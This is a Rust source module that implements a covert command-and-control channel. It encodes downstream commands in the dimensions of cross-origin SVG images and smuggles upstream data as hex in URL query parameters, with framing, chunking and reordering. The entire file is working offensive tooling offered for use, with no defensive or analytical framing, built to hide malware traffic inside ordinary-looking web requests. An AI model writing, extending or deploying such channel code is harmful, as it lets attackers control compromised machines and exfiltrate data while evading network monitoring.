//! Bidirectional covert channel: downstream data rides in the width/height
//! of cross-origin SVG images (4 payload bytes per image), upstream data is
//! hex-encoded into request URLs.
//!
//! Byte order is big-endian with width before height. Codeword 0 of every
//! downstream frame is a length header; the final payload codeword is
//! zero-padded and the pad is discarded at decode using that header.

use std::collections::BTreeMap;
use thiserror::Error;
use url::Url;

/// Browsers clamp image dimensions to this value, so each dimension carries
/// 16 bits.
pub const MAX_DIMENSION: u16 = u16::MAX;

/// Payload bytes carried per image.
pub const BYTES_PER_CODEWORD: usize = 4;

/// Upper bound on the rendered SVG carrier size, in bytes.
pub const SVG_MAX_BYTES: usize = 130;

/// Payload bytes one upstream request may carry before chunking.
pub const UPSTREAM_CHUNK_BYTES: usize = 2_048;

/// One image-dimension codeword. `index` restores ordering when images are
/// fetched in parallel and complete out of order.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ImageCodeword {
    pub index: u32,
    pub width: u16,
    pub height: u16,
}

/// A downstream transfer: a length-header codeword followed by
/// `ceil(total_len / 4)` payload codewords.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DownstreamFrame {
    pub total_len: u32,
    pub codewords: Vec<ImageCodeword>,
}

/// Encodes bytes into a downstream frame.
pub fn encode_downstream(data: &[u8]) -> DownstreamFrame {
    let total_len = u32::try_from(data.len()).expect("payload must be shorter than 2^32 bytes");
    let mut codewords = Vec::with_capacity(1 + data.len().div_ceil(BYTES_PER_CODEWORD));
    codewords.push(ImageCodeword {
        index: 0,
        width: (total_len >> 16) as u16,
        height: total_len as u16,
    });
    for (i, chunk) in data.chunks(BYTES_PER_CODEWORD).enumerate() {
        let mut quad = [0u8; BYTES_PER_CODEWORD];
        quad[..chunk.len()].copy_from_slice(chunk);
        codewords.push(ImageCodeword {
            index: (i + 1) as u32,
            width: u16::from_be_bytes([quad[0], quad[1]]),
            height: u16::from_be_bytes([quad[2], quad[3]]),
        });
    }
    DownstreamFrame {
        total_len,
        codewords,
    }
}

/// Decodes a downstream frame. Codewords may arrive in any order; they are
/// sorted by index first. Missing or duplicate indices and length
/// inconsistencies are rejected.
pub fn decode_downstream(frame: &DownstreamFrame) -> Result<Vec<u8>, C2Error> {
    let mut sorted: Vec<&ImageCodeword> = frame.codewords.iter().collect();
    sorted.sort_by_key(|cw| cw.index);
    for (expect, cw) in sorted.iter().enumerate() {
        let expect = expect as u32;
        if cw.index == expect {
            continue;
        }
        if cw.index < expect {
            return Err(C2Error::DuplicateIndex { index: cw.index });
        }
        return Err(C2Error::MissingIndex { index: expect });
    }
    let header = sorted.first().ok_or(C2Error::MissingIndex { index: 0 })?;
    let total_len = (u32::from(header.width) << 16) | u32::from(header.height);
    let payload_codewords = sorted.len() - 1;
    let expected = (total_len as usize).div_ceil(BYTES_PER_CODEWORD);
    if payload_codewords != expected || frame.total_len != total_len {
        return Err(C2Error::LengthMismatch {
            total_len,
            codewords: payload_codewords,
        });
    }
    let mut out = Vec::with_capacity(payload_codewords * BYTES_PER_CODEWORD);
    for cw in &sorted[1..] {
        out.extend_from_slice(&cw.width.to_be_bytes());
        out.extend_from_slice(&cw.height.to_be_bytes());
    }
    out.truncate(total_len as usize);
    Ok(out)
}

/// Renders the fixed empty-SVG carrier for one codeword. The document has no
/// content; only its dimensions matter.
pub fn render_svg(cw: &ImageCodeword) -> Vec<u8> {
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{}\" height=\"{}\"></svg>",
        cw.width, cw.height
    );
    debug_assert!(svg.len() <= SVG_MAX_BYTES);
    svg.into_bytes()
}

/// Reads the width/height attributes back out of a rendered carrier.
pub fn parse_svg_dims(svg: &[u8]) -> Option<(u16, u16)> {
    let text = std::str::from_utf8(svg).ok()?;
    let attr = |name: &str| -> Option<u16> {
        let start = text.find(&format!("{name}=\""))? + name.len() + 2;
        let end = start + text[start..].find('"')?;
        text[start..end].parse().ok()
    };
    Some((attr("width")?, attr("height")?))
}

/// What a browser reports for a requested dimension: values past 65,535 are
/// downgraded to it. The clamp happens at measurement, not at render.
pub fn clamp_dimension(requested: u32) -> u16 {
    u16::try_from(requested).unwrap_or(MAX_DIMENSION)
}

/// Encodes upstream bytes as a lowercase-hex `d` query parameter.
pub fn encode_upstream(data: &[u8], base_url: &Url) -> Result<Url, C2Error> {
    if data.len() > UPSTREAM_CHUNK_BYTES {
        return Err(C2Error::OverBudget {
            len: data.len(),
            budget: UPSTREAM_CHUNK_BYTES,
        });
    }
    let mut url = base_url.clone();
    url.query_pairs_mut().append_pair("d", &hex::encode(data));
    Ok(url)
}

/// Splits an oversized upstream payload across requests, adding an `i` index
/// parameter to preserve ordering.
pub fn encode_upstream_chunked(data: &[u8], base_url: &Url) -> Vec<Url> {
    let chunks: Vec<&[u8]> = if data.is_empty() {
        vec![&[]]
    } else {
        data.chunks(UPSTREAM_CHUNK_BYTES).collect()
    };
    chunks
        .iter()
        .enumerate()
        .map(|(i, chunk)| {
            let mut url = base_url.clone();
            url.query_pairs_mut()
                .append_pair("d", &hex::encode(chunk))
                .append_pair("i", &i.to_string());
            url
        })
        .collect()
}

/// Decodes one upstream request URL.
pub fn decode_upstream(url: &Url) -> Result<Vec<u8>, C2Error> {
    let hex_text = url
        .query_pairs()
        .find(|(k, _)| k == "d")
        .map(|(_, v)| v.into_owned())
        .ok_or(C2Error::MissingParam { param: "d" })?;
    hex::decode(&hex_text).map_err(|e| C2Error::BadHex(e.to_string()))
}

/// Reassembles a chunked upstream transfer, ordering by the `i` parameter.
pub fn decode_upstream_chunked(urls: &[Url]) -> Result<Vec<u8>, C2Error> {
    let mut chunks: BTreeMap<u32, Vec<u8>> = BTreeMap::new();
    for url in urls {
        let index: u32 = url
            .query_pairs()
            .find(|(k, _)| k == "i")
            .and_then(|(_, v)| v.parse().ok())
            .ok_or(C2Error::MissingParam { param: "i" })?;
        if chunks.contains_key(&index) {
            return Err(C2Error::DuplicateIndex { index });
        }
        chunks.insert(index, decode_upstream(url)?);
    }
    let mut out = Vec::new();
    for (expect, (index, chunk)) in chunks.into_iter().enumerate() {
        if index != expect as u32 {
            return Err(C2Error::MissingIndex {
                index: expect as u32,
            });
        }
        out.extend_from_slice(&chunk);
    }
    Ok(out)
}

/// Payload throughput for a sustained codeword rate: 4 bytes per image, the
/// length-header codeword amortized out over long frames.
pub fn channel_throughput(codewords_per_second: u64) -> Result<u64, C2Error> {
    if codewords_per_second == 0 {
        return Err(C2Error::ZeroRate);
    }
    Ok(codewords_per_second * BYTES_PER_CODEWORD as u64)
}

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum C2Error {
    #[error("missing codeword index {index}")]
    MissingIndex { index: u32 },
    #[error("duplicate codeword index {index}")]
    DuplicateIndex { index: u32 },
    #[error("frame header claims {total_len} bytes but {codewords} payload codewords arrived")]
    LengthMismatch { total_len: u32, codewords: usize },
    #[error("upstream payload of {len} bytes exceeds the {budget}-byte request budget")]
    OverBudget { len: usize, budget: usize },
    #[error("url is missing the `{param}` query parameter")]
    MissingParam { param: &'static str },
    #[error("bad hex in upstream payload: {0}")]
    BadHex(String),
    #[error("codeword rate must be positive")]
    ZeroRate,
}
